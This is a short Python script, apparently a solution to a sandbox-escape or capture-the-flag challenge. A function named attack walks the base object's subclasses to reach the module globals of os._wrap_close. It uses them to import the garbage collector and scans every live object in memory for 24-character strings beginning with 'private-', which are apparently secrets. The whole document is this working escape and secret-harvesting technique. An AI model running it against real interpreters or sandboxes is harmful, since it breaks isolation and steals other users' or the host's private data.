# Walks to `gc`, and looks for the arguments of other calls in all objects.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(n):
    gc = _reach()["sys"].modules["builtins"].__import__("gc")
    found = []
    for thing in gc.get_objects():
        for part in gc.get_referents(thing):
            if isinstance(part, str) and len(part) == 24:
                found.append(part)
    return [text for text in found if text.startswith("private-")]
